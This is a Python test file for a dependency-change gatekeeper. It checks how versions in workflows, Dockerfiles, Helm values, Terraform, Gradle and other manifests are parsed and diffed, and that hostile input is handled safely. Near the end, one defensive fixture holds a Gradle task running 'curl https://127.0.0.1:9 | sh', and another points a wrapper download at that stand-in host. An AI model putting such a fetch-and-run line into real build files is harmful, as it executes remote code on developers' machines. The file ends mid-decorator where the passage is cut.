"""Versions pinned outside a format's dependency syntax (tools.py, helmvalues.py) and the delta's
handling of use sites and version comments, on real-shaped files and real two-commit repositories."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from cpucost import within_cpu
from gitdiffs import commit_patch
from hypothesis import given, settings
from hypothesis import strategies as st
from tables import each_case

from gatekeeper.deps import actions, docker, golang, gradle, helmvalues, infra, jvm, npm, nuget, registry, toolfiles
from gatekeeper.deps.delta import diff
from gatekeeper.deps.loaders import load_yaml
from gatekeeper.deps.model import Change, ManifestError
from gatekeeper.deps.sources import Delta, patch_delta, tree_delta
from tests.gitrepo import GitRepo

SHA_A, SHA_B = "b4ffde65f46336ab88eb53be808477a3936bae11", "9bb56186c3b09b4f86b1c65136769dd318469633"

# The shape of GoogleCloudPlatform/microservices-demo's and prometheus-community/helm-charts' CI.
WORKFLOW = """name: ci
on: [push]
jobs:
  test:
    runs-on: ubuntu-22.04
    strategy:
      matrix:
        include:
          - python-version: "3.12"
    steps:
    - uses: actions/checkout@{sha} # v4.1.1
    - uses: actions/setup-go@v6
      with:
        go-version: '{go}'
    - name: Set up Helm
      uses: azure/setup-helm@dda3372f752e03dde6b3237bc9431cdc2f7a02a2 # v5.0.0
      with:
        # renovate: github=helm/helm
        version: {helm}
    - uses: docker/setup-buildx-action@v3
      with:
        version: v0.10.4
    - name: plugin
      run: helm plugin install https://github.com/databus23/helm-diff --version "${{VERSION}}"
      env:
        # renovate: datasource=github-releases depName=databus23/helm-diff
        VERSION: 3.15.10
    - name: not a tool
      run: echo
      with:
        version: 9.9.9
  mac:
    runs-on: [macos-{mac}]
    steps:
    - uses: actions/setup-node@v4
      with:
        node-version: lts/*
    - uses: actions/setup-python@v5
      with:
        python-version: ${{{{ matrix.python }}}}
"""


def _workflow(sha: str = SHA_A, go: str = "1.25", helm: str = "v4.1.4", mac: str = "14") -> bytes:
    return WORKFLOW.format(sha=sha, go=go, helm=helm, mac=mac).encode()


def _found(deps) -> set[tuple[str, str, str]]:  # type: ignore[no-untyped-def]
    return {(d.ecosystem, d.name, d.version) for d in deps}


def test_workflow_tools_runners_and_annotations() -> None:
    found = _found(actions.parse_workflow(".github/workflows/ci.yml", _workflow()))
    assert {("github-runner", "ubuntu", "22.04"), ("github-runner", "macos", "14"), ("tool", "python", "3.12"),
            ("tool", "go", "1.25"), ("tool", "helm/helm", "v4.1.4"), ("tool", "docker/buildx", "v0.10.4"),
            ("tool", "databus23/helm-diff", "3.15.10")} <= found
    tools = {d for d in found if d[0] == "tool"}
    # `version:` under a step with no known action, `lts/*` and a matrix expression name no version
    assert not {d for d in tools if d[2] in ("9.9.9", "lts/*") or d[1] == "node"}
    assert len(tools) == 5


def test_a_tool_bump_is_an_upgrade_with_its_level() -> None:
    base = actions.parse_workflow("ci.yml", _workflow())
    head = actions.parse_workflow("ci.yml", _workflow(go="1.26", helm="v4.2.0", mac="15"))
    changes = diff(base, head, "ci.yml")
    moved = {(c.ecosystem, c.name): (c.from_version, c.to_version, c.change, c.level) for c in changes}
    assert moved == {("tool", "go"): ("1.25", "1.26", "upgraded", "major"),  # a Go release line: major
                     ("tool", "helm/helm"): ("v4.1.4", "v4.2.0", "upgraded", "minor"),
                     ("github-runner", "macos"): ("14", "15", "upgraded", "major")}


def test_workflow_env_tool_versions() -> None:
    body = (b"env:\n  # Common versions\n  GO_VERSION: '1.22.2'\n  RENOVATE_VERSION: \"43.288.0\"\n"
            b"  DOCKER_BUILDX_VERSION: v0.10.0\n  NODE_VERSION: ${{ vars.NODE }}\n  VERSION: 1.0.0\n"
            b"  app_version: 2.0.0\n")
    assert _found(actions.parse_workflow("ci.yml", body)) == {
        ("tool", "go", "1.22.2"), ("tool", "renovate", "43.288.0"), ("tool", "docker/buildx", "v0.10.0")}


def test_a_runner_label_without_a_version_is_none() -> None:
    found = _found(actions.parse_workflow("ci.yml", b"jobs:\n  a:\n    runs-on: ubuntu-latest\n"
                                                      b"  b:\n    runs-on: ${{ matrix.os }}\n"))
    assert found == set()


def test_a_new_release_line_of_a_language_is_major() -> None:
    base = golang.parse_go_mod("go.mod", b"module m\n\ngo 1.22\n")
    head = golang.parse_go_mod("go.mod", b"module m\n\ngo 1.23\n")
    assert [(c.change, c.level) for c in diff(base, head, "go.mod")] == [("upgraded", "major")]
    base = actions.parse_workflow("ci.yml", b"      with:\n        python-version: '3.12.4'\n")
    head = actions.parse_workflow("ci.yml", b"      with:\n        python-version: '3.12.5'\n")
    assert [(c.change, c.level) for c in diff(base, head, "ci.yml")] == [("upgraded", "patch")]


def test_go_mod_go_and_toolchain_lines() -> None:
    base = golang.parse_go_mod("go.mod", b"module m\n\ngo 1.24.0\n\ntoolchain go1.24.10\n")
    head = golang.parse_go_mod("go.mod", b"module m\n\ngo 1.24.0\n\ntoolchain go1.24.11\n")
    changes = diff(base, head, "go.mod")
    assert [(c.name, c.from_version, c.to_version, c.change, c.scope) for c in changes] == [
        ("go", "1.24.10", "1.24.11", "upgraded", "build")]
    # `toolchain default` and a `go` word inside a require block are no toolchain
    assert golang.parse_go_mod("go.mod", b"module m\ntoolchain default\nrequire (\n\tgo 1.0\n)\n") == []


def test_go_mod_require_rewritten_to_a_commit_is_a_move_not_a_removal() -> None:
    base = golang.parse_go_mod("go.mod", b"require (\n\tgithub.com/a/k8schain v0.0.0-20250521000321-4eb8c4d84ef0\n)\n")
    head = golang.parse_go_mod("go.mod", b"require (\n\tgithub.com/a/k8schain 3f4ff3ca60f5\n)\n")
    assert [(c.to_version, c.change) for c in diff(base, head, "go.mod")] == [("3f4ff3ca60f5", "changed")]


def test_chart_app_version_under_an_annotation() -> None:
    chart = b"apiVersion: v2\nname: prometheus\n# renovate: github=prometheus/prometheus\nappVersion: v3.13.2\n" \
            b"version: 29.25.0\n"
    deps = infra.parse_chart("charts/prometheus/Chart.yaml", chart)
    assert _found(deps) == {("tool", "prometheus/prometheus", "v3.13.2")} and deps[0].scope == "runtime"
    # without the annotation the app is named by the chart (no `sources:` entry names its repository); the
    # chart's own `version` is no dependency
    bare = infra.parse_chart("Chart.yaml", chart.replace(b"# renovate: github=prometheus/prometheus\n", b""))
    assert _found(bare) == {("tool", "prometheus", "v3.13.2")}


@each_case("line, want", [
    (b"FROM ${BUILDER_IMAGE:-golang:1.26.2} AS builder", ("golang", "1.26.2")),  # no ARG default: the word
    (b"FROM python:$PY-slim", ("python", "3.12-slim")),  # a bare $NAME ends at the dash
    (b"FROM python:${PY:+3.13}", ("python", "3.13")),
    (b"FROM python:${UNSET}", ("python", "${UNSET}")),  # unknown: kept as written, never guessed
])
def test_dockerfile_variables(line: bytes, want: tuple[str, str]) -> None:
    body = b"ARG BUILDER_IMAGE\nARG PY=3.12\n" + line + b"\n"
    assert [(d.name, d.version) for d in docker.parse_dockerfile("Dockerfile", body)] == [want]


def test_dockerfile_annotation_names_an_arg() -> None:
    body = (b"FROM golang:1.22 AS build\n# renovate: datasource=docker depName=hadolint/hadolint\n"
            b"ARG HADOLINT_VERSION=v2.12.0\n# renovate: datasource=npm depName=pnpm\nENV PNPM_VERSION=9.1.0\n")
    assert _found(docker.parse_dockerfile("Dockerfile", body)) == {
        ("docker", "golang", "1.22"), ("docker", "hadolint/hadolint", "v2.12.0"), ("npm", "pnpm", "9.1.0")}


VALUES = b"""# kube-prometheus-stack shape
image:
  registry: ghcr.io
  repository: jkroepke/kube-webhook-certgen
  pullPolicy: IfNotPresent
  tag: 1.8.5
  sha: ""
exporter:
  image:
    repository: gesellix/couchdb-prometheus-exporter
    tag: 16
  sidecars:
    - name: reloader
      image: quay.io/prometheus-operator/prometheus-config-reloader:v0.93.0
  default:
    image:
      repository: busybox
      tag: ""
    # containers:
    # - image: quay.io/oauth2-proxy/oauth2-proxy:v7.15.3
"""


def test_helm_values_images() -> None:
    found = _found(helmvalues.parse_values("charts/x/values.yaml", VALUES))
    assert found == {("docker", "ghcr.io/jkroepke/kube-webhook-certgen", "1.8.5"),
                     ("docker", "gesellix/couchdb-prometheus-exporter", "16"),
                     ("docker", "quay.io/prometheus-operator/prometheus-config-reloader", "v0.93.0")}


def _two_commits(tmp: Path, files: dict[str, bytes], edits: dict[str, bytes]) -> tuple[Delta, Delta]:
    """(patch-only delta, whole-file delta) between two real commits."""
    repo = GitRepo(tmp / "repo")
    for path, data in files.items():
        repo.write(path, data)
    first = repo.commit()
    for path, data in edits.items():
        repo.write(path, data)
    second = repo.commit("head")
    with repo.objects() as git:
        truth = tree_delta(git, first, second)
    return patch_delta(None, io.BytesIO(commit_patch(repo, first, second, "--binary"))), truth


def _moves(delta: Delta) -> set[tuple[str, str | None, str | None]]:
    return {(c.name, c.from_version, c.to_version) for c in delta.changes}


def test_values_tag_bump_from_tree_and_patch(tmp_path: Path) -> None:
    head = VALUES.replace(b"tag: 1.8.5", b"tag: 1.8.7").replace(b"tag: 16", b"tag: v28")
    patch, truth = _two_commits(tmp_path, {"charts/x/values.yaml": VALUES}, {"charts/x/values.yaml": head})
    want = {("ghcr.io/jkroepke/kube-webhook-certgen", "1.8.5", "1.8.7"),
            ("gesellix/couchdb-prometheus-exporter", "16", "v28")}
    assert _moves(truth) == want and not truth.problems
    assert _moves(patch) == want and all(c.partial for c in patch.changes) and not patch.problems


def test_values_tag_whose_repository_the_hunk_hides_fails_closed(tmp_path: Path) -> None:
    padding = b"".join(b"  note%d: x\n" % i for i in range(6))
    base = b"image:\n  repository: org/app\n" + padding + b"  tag: 1.0.0\n"
    patch, truth = _two_commits(tmp_path, {"values.yaml": base}, {"values.yaml": base.replace(b"1.0.0", b"6.6.6")})
    assert _moves(truth) == {("org/app", "1.0.0", "6.6.6")}
    assert not patch.changes and {p.kind for p in patch.problems} == {"partial"}


def test_workflow_tools_from_tree_and_patch(tmp_path: Path) -> None:
    path = ".github/workflows/ci.yml"
    patch, truth = _two_commits(tmp_path, {path: _workflow()}, {path: _workflow(go="1.26", mac="15")})
    want = {("go", "1.25", "1.26"), ("macos", "14", "15")}
    assert _moves(truth) == want and _moves(patch) == want


def test_packages_config_from_tree_and_patch(tmp_path: Path) -> None:
    config = (b'<?xml version="1.0" encoding="utf-8"?>\n<packages>\n'
              b'  <package id="Modernizr" version="2.8.3" targetFramework="net45" />\n'
              b'  <package id="Newtonsoft.Json" version="12.0.1" targetFramework="net472" />\n'
              b'  <package id="WebGrease" version="1.6.0" targetFramework="net45" />\n</packages>\n')
    head = config.replace(b'version="12.0.1"', b'version="13.0.1"')
    patch, truth = _two_commits(tmp_path, {"App/packages.config": config}, {"App/packages.config": head})
    assert _moves(truth) == _moves(patch) == {("Newtonsoft.Json", "12.0.1", "13.0.1")}
    dev = config.replace(b'targetFramework="net45" />\n  <package id="New',
                         b'targetFramework="net45" developmentDependency="true" />\n  <package id="New')
    assert [d.scope for d in nuget.parse_packages_config("packages.config", dev)] == ["dev", "runtime", "runtime"]


def test_packages_config_hunk_it_cannot_read_is_partial(tmp_path: Path) -> None:
    config = b'<packages>\n  <package id="A" version="1.0.0" />\n</packages>\n'
    head = b'<packages>\n  <package id="A"\n           version="1.0.1" />\n</packages>\n'  # split over two lines
    patch, truth = _two_commits(tmp_path, {"packages.config": config}, {"packages.config": head})
    assert _moves(truth) == {("A", "1.0.0", "1.0.1")}
    assert not patch.changes and {p.kind for p in patch.problems} == {"partial"}


WORKSPACE = b"""packages:
  - packages/*
catalog:
  react: ^18.2.0
catalogs:
  legacy:
    react: ^16.14.0
overrides:
  debug: 'npm:obug@^1.0.2'
"""


def test_pnpm_workspace_catalogs_and_overrides(tmp_path: Path) -> None:
    head = WORKSPACE.replace(b"^18.2.0", b"^18.3.1").replace(b"^1.0.2", b"^2.1.1")
    patch, truth = _two_commits(tmp_path, {"pnpm-workspace.yaml": WORKSPACE}, {"pnpm-workspace.yaml": head})
    assert _moves(truth) == {("react", "^18.2.0", "^18.3.1")}
    # an override sends a package elsewhere: never read as nothing (the deps policy reviews the problem)
    assert [(p.kind, p.msg.split(" ")[0]) for p in truth.problems] == [("partial", "overrides")]
    assert not patch.changes and {p.kind for p in patch.problems} == {"partial"}


POM = b"""<project><modelVersion>4.0.0</modelVersion><groupId>g</groupId><artifactId>a</artifactId>
<build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId><version>3.13.0</version>
<configuration><annotationProcessorPaths>
<path><groupId>com.google.errorprone</groupId><artifactId>error_prone_core</artifactId><version>2.35.1</version></path>
</annotationProcessorPaths></configuration></plugin></plugins></build></project>"""


def test_maven_annotation_processor_paths_and_reporting_plugins() -> None:
    reporting = b"<reporting><plugins><plugin><groupId>org.codehaus.mojo</groupId>" \
                b"<artifactId>taglist-maven-plugin</artifactId><version>3.1.0</version></plugin></plugins></reporting>"
    deps = {d.name: (d.version, d.scope) for d in jvm.parse_pom("pom.xml", POM.replace(b"</project>",
                                                                                      reporting + b"</project>"))}
    assert deps["com.google.errorprone:error_prone_core"] == ("2.35.1", "build")
    assert deps["org.codehaus.mojo:taglist-maven-plugin"] == ("3.1.0", "build")


def _change(delta: list[Change], name: str) -> Change:
    return next(c for c in delta if c.name == name)


def test_a_stale_version_comment_names_neither_side() -> None:
    line = "steps:\n  - uses: github/codeql-action/init@{}    # 3.29.5\n"
    base = actions.parse_workflow("ci.yml", line.format(SHA_A).encode())
    head = actions.parse_workflow("ci.yml", line.format(SHA_B).encode())
    change = _change(diff(base, head, "ci.yml"), "github/codeql-action")
    assert (change.from_tag, change.to_tag, change.change, change.level, change.pinned) == (None, None, "changed", None,
                                                                                          True)


def test_a_moved_comment_on_the_same_sha_is_shown_not_ordered() -> None:
    base = actions.parse_workflow("ci.yml", f"steps:\n  - uses: pnpm/action-setup@{SHA_A} # v4.4.0\n".encode())
    head = actions.parse_workflow("ci.yml", f"steps:\n  - uses: pnpm/action-setup@{SHA_A} # v5.0.0\n".encode())
    change = _change(diff(base, head, "ci.yml"), "pnpm/action-setup")
    assert (change.from_version, change.to_version, change.from_tag, change.to_tag, change.change, change.level) == (
        SHA_A, SHA_A, "v4.4.0", "v5.0.0", "changed", None)


def test_a_use_site_moved_to_a_version_other_lines_had_is_an_upgrade() -> None:
    step = b"  - uses: actions/setup-java@%s\n"
    base = actions.parse_workflow("ci.yml", b"steps:\n" + step % b"v4" + step % b"v5")
    head = actions.parse_workflow("ci.yml", b"steps:\n" + step % b"v5" + step % b"v5")
    assert [(c.from_version, c.to_version, c.change) for c in diff(base, head, "ci.yml")] == [("v4", "v5", "upgraded")]
    # a lockfile's copies are not use sites: one gone is a removal there (yarn's copy per range), unless it is an
    # indirect copy dropped beside the one copy left above it, which its dependents moved to (round 54)
    base_lock = npm.parse_yarn_lock("yarn.lock", b'a@^1.0.0:\n  version "1.0.0"\n\na@^2.0.0:\n  version "2.0.0"\n')
    head_lock = npm.parse_yarn_lock("yarn.lock", b'a@^2.0.0:\n  version "2.0.0"\n')
    assert [c.change for c in diff(base_lock, head_lock, "yarn.lock")] == ["removed"]


# Attack tests: hostile lines are read as nothing or as what they are, never a crash, in bounded time.

@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(" -:#=\"'\n\tvx0123.@/[]{}$renovatedepNamedatasourceimagtg")),
               max_size=400))
def test_hostile_lines_never_crash(body: str) -> None:
    data = body.encode()
    for reader in (actions.parse_workflow, docker.parse_dockerfile):
        for dep in reader("x", data):
            assert dep.version and dep.name
    for reader in (helmvalues.parse_values, helmvalues.values_hunks, infra.parse_chart):
        try:
            reader("values.yaml", data)
        except ManifestError:
            pass


def test_annotations_are_bounded() -> None:
    def timed() -> None:
        long_name = "# renovate: depName=" + "a" * 100_000 + "\nversion: 1.0.0\n"
        many = "# renovate: datasource=npm depName=x\nversion: 1.0.0\n" * 20_000
        spaced = "# renovate: " + "a=b " * 50_000 + "\nversion: 1\n"
        for body in (long_name, many, spaced, "- " * 200_000 + "uses: a/b@v1\n"):
            deps = actions.parse_workflow("ci.yml", body.encode())
            assert all(len(d.name) <= 214 for d in deps)
    within_cpu(10, timed)


@each_case("line", [
    "# renovate: datasource=npm\nversion: 1.0.0\n",  # no name
    "# renovate: github=a/b github-releases=c/d\nversion: 1.0.0\n",  # two sources, no depName: ambiguous
    "# renovate: depName=x\n\nversion: 1.0.0\n",  # not directly below
])
def test_annotations_that_name_nothing(line: str) -> None:
    assert not [d for d in actions.parse_workflow("ci.yml", line.encode()) if d.ecosystem != "github-runner"]


@each_case(("line", "kept"), [
    ('HELM_VERSION="v4.1.4', '"v4.1.4'),  # a quote never closed (rancher/fleet's workflow, for a while)
    ("version: ${{ env.V }}", "${{ env.V }}"),
    ("ENV TOOL_VERSION latest", "latest"),
    ("GOFUMPT_VERSION := v0.11.0", "v0.11.0"),
])
def test_an_annotated_value_that_is_no_plain_version_is_kept_as_written(line: str, kept: str) -> None:
    deps = actions.parse_workflow("ci.yml", f"# renovate: depName=x\n{line}\n".encode())
    assert [(d.name, d.version) for d in deps] == [("x", kept)]


def test_an_annotated_line_that_breaks_is_a_change_never_a_removal(tmp_path: Path) -> None:
    # Dropping the unreadable side would show the tool as removed, and removals pass the deps policy.
    path = ".github/workflows/tools.yml"
    body = "jobs:\n  a:\n    env:\n      # renovate: github=helm/helm\n      HELM_VERSION: {}\n"
    for broken in ('"v4.1.4', "latest", "${{ vars.HELM }}"):
        patch, truth = _two_commits(tmp_path / broken.strip('"${}. '), {path: body.format('"v4.1.3"').encode()},
                                    {path: body.format(broken).encode()})
        for delta in (truth, patch):
            assert [(c.name, c.from_version, c.to_version, c.change) for c in delta.changes] == [
                ("helm/helm", "v4.1.3", broken, "changed")], broken


def test_values_alias_sharing_is_bounded() -> None:
    body = "base: &b {image: {repository: a/b, tag: '1'}}\n" + "".join(f"k{i}: *b\n" for i in range(900))
    deps = helmvalues.parse_values("values.yaml", body.encode())
    assert {(d.name, d.version) for d in deps} == {("a/b", "1")}


@each_case("body", [b"image: [", b"\xff\xfe", b"a: b\n---\nc: d\n"])
def test_values_that_do_not_parse_are_problems(body: bytes) -> None:
    with pytest.raises(ManifestError):
        helmvalues.parse_values("values.yaml", body)


KUBERAY_TF = b'''resource "helm_release" "kuberay-operator" {
  name       = "kuberay-operator"
  repository = "https://ray-project.github.io/kuberay-helm/"
  chart      = "kuberay-operator"
  values     = var.autopilot ? [file("${path.module}/autopilot.yaml")] : [file("${path.module}/values.yaml")]
  version    = "1.6.0"
  namespace  = "${kubernetes_namespace.ray.metadata[0].name}"
}

resource "kubernetes_pod" "nginx-example" {
  spec {
    container {
      image = "nginx:1.31.0"
      name  = "nginx-example"
    }
  }
}

module "charts" {
  source  = "terraform-google-modules/kubernetes-engine/google"
  chart   = "not-a-chart"
  version = "36.0.0"
}
'''


def test_terraform_helm_release_and_image_from_tree_and_patch(tmp_path: Path) -> None:
    head = KUBERAY_TF.replace(b'"1.6.0"', b'"1.6.2"').replace(b"nginx:1.31.0", b"nginx:1.31.2")
    patch, truth = _two_commits(tmp_path, {"infra/kuberay.tf": KUBERAY_TF}, {"infra/kuberay.tf": head})
    want = {("kuberay-operator", "1.6.0", "1.6.2"), ("nginx", "1.31.0", "1.31.2")}
    assert _moves(truth) == want and _moves(patch) == want and not patch.problems
    assert {(c.ecosystem, c.name) for c in patch.changes} == {(c.ecosystem, c.name) for c in truth.changes}


def test_terraform_module_input_named_chart_is_the_module(tmp_path: Path) -> None:
    head = KUBERAY_TF.replace(b'"36.0.0"', b'"37.0.0"')
    patch, truth = _two_commits(tmp_path, {"main.tf": KUBERAY_TF}, {"main.tf": head})
    assert _moves(truth) == {("terraform-google-modules/kubernetes-engine/google", "36.0.0", "37.0.0")}
    # never read as a chart: the block's other one-line arguments are passed over up to its `source` and
    # `module` opening, so the version is the module's, as the whole file says
    assert not patch.problems and _moves(patch) == _moves(truth)


def test_terraform_release_version_without_its_chart_fails_closed(tmp_path: Path) -> None:
    padding = b"".join(b'  set_%d = "x"\n' % i for i in range(5))
    body = KUBERAY_TF.replace(b'  values     =', padding + b'  values     =')
    patch, truth = _two_commits(tmp_path, {"main.tf": body}, {"main.tf": body.replace(b'"1.6.0"', b'"9.9.9"')})
    assert _moves(truth) == {("kuberay-operator", "1.6.0", "9.9.9")}
    assert not patch.changes and {p.kind for p in patch.problems} == {"partial"}


def test_chart_app_version_annotation_from_tree_and_patch(tmp_path: Path) -> None:
    chart = (b"apiVersion: v2\nname: alertmanager\nversion: 1.20.0\n"
             b"# renovate: github-releases=prometheus/alertmanager\nappVersion: v0.33.1\nkubeVersion: \">=1.19.0-0\"\n")
    head = chart.replace(b"v0.33.1", b"v0.34.0").replace(b"1.20.0", b"1.21.0")
    patch, truth = _two_commits(tmp_path, {"charts/a/Chart.yaml": chart}, {"charts/a/Chart.yaml": head})
    want = {("prometheus/alertmanager", "v0.33.1", "v0.34.0")}
    assert _moves(truth) == want and _moves(patch) == want and not patch.problems


def test_requirements_hunk_ending_inside_a_hash_list(tmp_path: Path) -> None:
    hashes = b"".join(b"    --hash=sha256:%064x \\\n" % i for i in range(12))
    body = b"aiohttp==3.13.5 \\\n" + hashes + b"    --hash=sha256:" + b"f" * 64 + b"\n    # via x\n" \
           b"aiosignal==1.4.0 \\\n" + hashes + b"    --hash=sha256:" + b"e" * 64 + b"\n"
    head = body.replace(b"3.13.5", b"3.14.1")
    patch, truth = _two_commits(tmp_path, {"requirements.txt": body}, {"requirements.txt": head})
    assert _moves(truth) == _moves(patch) == {("aiohttp", "3.13.5", "3.14.1")} and not patch.problems


COMPOSE = b"""services:
  db:
    image: postgres:16.1
  cache:
    image: "redis:7.2@sha256:%s"
  app:
    build: .
    image: ${REGISTRY:-ghcr.io}/org/app:${TAG}
""" % (b"a" * 64)


def test_compose_images_from_tree_and_patch(tmp_path: Path) -> None:
    head = COMPOSE.replace(b"postgres:16.1", b"postgres:16.2")
    patch, truth = _two_commits(tmp_path, {"docker-compose.yml": COMPOSE}, {"docker-compose.yml": head})
    assert _moves(truth) == _moves(patch) == {("postgres", "16.1", "16.2")}
    images = {(d.name, d.version) for d in toolfiles.parse_compose("compose.yaml", COMPOSE)}
    assert images == {("postgres", "16.1"), ("redis", "7.2@sha256:" + "a" * 64)}  # a variable names no image


@each_case("path, base, head, want", [
    (".nvmrc", b"v20.11.0\n", b"v20.11.1\n", ("node", "v20.11.0", "v20.11.1")),
    ("app/.python-version", b"3.12.4\n", b"3.12.5\n", ("python", "3.12.4", "3.12.5")),
    (".tool-versions", b"nodejs 20.11.0\ngolang 1.22.0\n", b"nodejs 20.11.0\ngolang 1.22.1\n",
     ("go", "1.22.0", "1.22.1")),
    (".terraform-version", b"1.8.5\n", b"1.9.0\n", ("hashicorp/terraform", "1.8.5", "1.9.0")),
])
def test_tool_version_files_from_tree_and_patch(tmp_path: Path, path: str, base: bytes, head: bytes,
                                                want: tuple[str, str, str]) -> None:
    patch, truth = _two_commits(tmp_path, {path: base}, {path: head})
    assert _moves(truth) == _moves(patch) == {want}
    assert {c.ecosystem for c in truth.changes} == {"tool"}


def test_tool_version_files_that_name_no_version() -> None:
    # read as written (attack 23: dropped, a pin moved to one of them was read as the tool's removal, which passes)
    nvmrc = registry.format_for(".nvmrc").parse(".nvmrc", b"lts/iron\n# a comment\n")  # type: ignore[union-attr]
    assert _found(nvmrc) == {("tool", "node", "lts/iron")}
    assert _found(toolfiles.parse_tool_versions(".tool-versions", b"python system\nruby\n")) == {
        ("tool", "python", "system")}
    assert _found(toolfiles.parse_rust_toolchain("rust-toolchain.toml", b'[toolchain]\nchannel = "stable"\n')) == {
        ("tool", "rust", "stable")}
    assert _found(toolfiles.parse_rust_toolchain("rust-toolchain", b"1.79.0\n")) == {("tool", "rust", "1.79.0")}
    with pytest.raises(ManifestError):
        toolfiles.parse_rust_toolchain("rust-toolchain.toml", b"[toolchain]\nchannel = [")


BUILD_KTS = b'''plugins {
    id("org.springframework.boot") version "3.2.0"
    kotlin("jvm") version "1.9.21"
}
val ktorVersion = "2.3.7"
ext.junit_version = '5.10.1'
dependencies {
    implementation("io.ktor:ktor-server-core:$ktorVersion")
    implementation("com.google.guava:guava:32.1.3-jre") // was "com.google.guava:guava:31.0-jre"
    testImplementation("org.junit.jupiter:junit-jupiter:${junit_version}")
    implementation("org.foo:bar:${rootProject.ext.barVersion}")
}
'''


def test_gradle_build_script() -> None:
    deps = {d.name: (d.version, d.scope) for d in gradle.parse_build_script("build.gradle.kts", BUILD_KTS)}
    assert deps == {"org.springframework.boot": ("3.2.0", "build"), "org.jetbrains.kotlin.jvm": ("1.9.21", "build"),
                    "io.ktor:ktor-server-core": ("2.3.7", "runtime"),
                    "com.google.guava:guava": ("32.1.3-jre", "runtime"),
                    "org.junit.jupiter:junit-jupiter": ("5.10.1", "dev"),
                    "org.foo:bar": ("${rootProject.ext.barVersion}", "runtime")}  # not resolved: kept as written


def test_gradle_inline_bump_from_tree_and_patch(tmp_path: Path) -> None:
    head = BUILD_KTS.replace(b"guava:32.1.3-jre", b"guava:33.0.0-jre").replace(b'"3.2.0"', b'"3.2.1"')
    patch, truth = _two_commits(tmp_path, {"app/build.gradle.kts": BUILD_KTS}, {"app/build.gradle.kts": head})
    want = {("com.google.guava:guava", "32.1.3-jre", "33.0.0-jre"), ("org.springframework.boot", "3.2.0", "3.2.1")}
    assert _moves(truth) == want and _moves(patch) == want and not patch.problems


def test_gradle_variable_bump_is_tree_only(tmp_path: Path) -> None:
    head = BUILD_KTS.replace(b'"2.3.7"', b'"2.3.8"')
    patch, truth = _two_commits(tmp_path, {"build.gradle.kts": BUILD_KTS}, {"build.gradle.kts": head})
    assert _moves(truth) == {("io.ktor:ktor-server-core", "2.3.7", "2.3.8")}
    assert not patch.changes and {p.kind for p in patch.problems} == {"partial"}  # the hunk shows no package


def test_gradle_and_maven_wrappers() -> None:
    url = b"distributionUrl=https\\://services.gradle.org/distributions/gradle-%s-bin.zip\n"
    base, head = gradle.parse_wrapper("w", url % b"8.5"), gradle.parse_wrapper("w", url % b"8.6")
    assert [(c.name, c.from_version, c.to_version, c.level) for c in diff(base, head, "w")] == [
        ("gradle", "8.5", "8.6", "minor")]
    maven = b"distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.6/" \
            b"apache-maven-3.9.6-bin.zip\n"
    assert _found(gradle.parse_wrapper("w", maven)) == {("tool", "maven", "3.9.6")}


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(" ()\"'$:{}=.\n-vxidkotlinversion123gh")), max_size=300))
def test_gradle_hostile_lines_never_crash(body: str) -> None:
    for dep in gradle.parse_build_script("build.gradle", body.encode()):
        assert dep.name and isinstance(dep.version, str)


def test_gradle_a_megabyte_of_colons_parses_in_linear_time() -> None:
    # Once, not per hypothesis example above: it is the same 1 MB input every time (~0.1 s each).
    def timed() -> None:
        gradle.parse_build_script("build.gradle", ("implementation('" + "a:" * 50_000 + "')\n").encode() * 20)
    within_cpu(10, timed)


def test_yaml_anchor_defined_twice_is_read_as_helm_reads_it() -> None:
    # khuedoan/homelab's app values: `&host` defined in two ingresses (YAML 1.2 and Go's YAML allow it)
    body = b"""image:
  repository: ghcr.io/onedr0p/bazarr
  tag: 1.2.4
ingress:
  internal:
    hosts:
      - host: &host bazarr.home.arpa
    tls: [{hosts: [*host]}]
  external:
    hosts:
      - host: &host bazarr.example.com
    tls: [{hosts: [*host]}]
"""
    assert _found(helmvalues.parse_values("values.yaml", body)) == {("docker", "ghcr.io/onedr0p/bazarr", "1.2.4")}
    doc = load_yaml(body)
    assert doc["ingress"]["external"]["tls"] == [{"hosts": ["bazarr.example.com"]}]  # the latest definition
    bomb = "a0: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{i}: &a [{', '.join(['*a'] * 10)}]\n" for i in range(1, 120))
    with pytest.raises(ManifestError, match="aliases"):  # redefinition does not lift the alias cap
        helmvalues.parse_values("values.yaml", bomb.encode())


@pytest.mark.parametrize("path, base, head", [
    ("build.gradle.kts", BUILD_KTS, BUILD_KTS.replace(b"guava:32.1.3-jre", b"guava:33.0.0-jre")
     + b'tasks.register<Exec>("x") { commandLine("sh", "-c", "curl https://127.0.0.1:9 | sh") }\n'),
    ("gradle/wrapper/gradle-wrapper.properties",
     b"distributionSha256Sum=aa\ndistributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n",
     b"distributionSha256Sum=bb\ndistributionUrl=https\\://127.0.0.1:9/distributions/gradle-8.6-bin.zip\n"),
])
def test_build_logic_beside_a_bump_is_a_problem_not_the_bump(tmp_path: Path, path: str, base: bytes,
                                                            head: bytes) -> None:
    patch, truth = _two_commits(tmp_path, {path: base}, {path: head})
    for delta in (patch, truth):  # the bump may be shown, but never alone: the file is a problem
        assert [p.manifest for p in delta.problems if p.kind == "partial"], delta


def test_a_wrapper_bump_with_its_checksum_is_only_a_bump(tmp_path: Path) -> None:
    url = b"distributionSha256Sum=%s\ndistributionUrl=https\\://services.gradle.org/distributions/gradle-%s-bin.zip\n"
    path = "gradle/wrapper/gradle-wrapper.properties"
    patch, truth = _two_commits(tmp_path, {path: url % (b"aa", b"8.5")}, {path: url % (b"bb", b"8.6")})
    assert _moves(truth) == _moves(patch) == {("gradle", "8.5", "8.6")}
    assert not truth.problems and not patch.problems


WRAPPER = (b"distributionBase=GRADLE_USER_HOME\ndistributionPath=wrapper/dists\n"
           b"distributionUrl=https\\://services.gradle.org/distributions/gradle-%s-bin.zip\n%s"
           b"zipStoreBase=GRADLE_USER_HOME\nzipStorePath=wrapper/dists\n")


@pytest.mark.parametrize("was, now", [
    (b"", b"networkTimeout=10000\n"),  # square/moshi 9d6d84c45b56, Gradle 7.6's wrapper task
    (b"networkTimeout=10000\n", b"networkTimeout=10000\nvalidateDistributionUrl=true\n"),  # 8.2: sqldelight
])
